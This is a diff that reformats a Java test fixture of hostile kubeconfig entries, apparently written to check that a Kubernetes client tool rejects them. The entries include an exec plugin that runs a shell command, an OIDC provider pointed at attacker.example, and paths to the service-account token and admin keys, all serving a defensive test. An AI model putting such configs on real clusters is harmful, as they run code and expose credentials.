@@ -26,8 +26,21 @@ public record HostileKubeconfig(String entry, String key, Object value) {
     public static List<HostileKubeconfig> all(Path marker) {
         return List.of(
                 exec(marker),
-                user("auth-provider", Map.of("name", "oidc", "config", Map.of("idp-issuer-url", "https://attacker.example",
-                        "client-id", "kubetunnel", "id-token", "x", "refresh-token", "y"))),
+                user(
+                        "auth-provider",
+                        Map.of(
+                                "name",
+                                "oidc",
+                                "config",
+                                Map.of(
+                                        "idp-issuer-url",
+                                        "https://attacker.example",
+                                        "client-id",
+                                        "kubetunnel",
+                                        "id-token",
+                                        "x",
+                                        "refresh-token",
+                                        "y"))),
                 user("tokenFile", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
                 user("client-certificate", "/etc/kubernetes/pki/admin.crt"),
                 user("client-key", "/etc/kubernetes/pki/admin.key"),
@@ -45,16 +58,27 @@ public record HostileKubeconfig(String entry, String key, Object value) {
 
     /** The four the issue names: exec, auth-provider, a certificate-authority path, insecure-skip-tls-verify. */
     public static List<HostileKubeconfig> named(Path marker) {
-        return all(marker).stream().filter(k -> List.of("exec", "auth-provider", "certificate-authority", "insecure-skip-tls-verify")
-                .contains(k.key())).toList();
+        return all(marker).stream()
+                .filter(k -> List.of("exec", "auth-provider", "certificate-authority", "insecure-skip-tls-verify")
+                        .contains(k.key()))
+                .toList();
     }
 
     /** An exec plugin whose command creates {@code marker}, then prints a credential so a client would carry on. */
     public static HostileKubeconfig exec(Path marker) {
         String credential = "{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\","
                 + "\"status\":{\"token\":\"exec-token\"}}";
-        return user("exec", Map.of("apiVersion", "client.authentication.k8s.io/v1", "command", "sh",
-                "args", List.of("-c", "id > '" + marker + "'; echo '" + credential + "'"), "interactiveMode", "Never"));
+        return user(
+                "exec",
+                Map.of(
+                        "apiVersion",
+                        "client.authentication.k8s.io/v1",
+                        "command",
+                        "sh",
+                        "args",
+                        List.of("-c", "id > '" + marker + "'; echo '" + credential + "'"),
+                        "interactiveMode",
+                        "Never"));
     }
 
     private static HostileKubeconfig user(String key, Object value) {
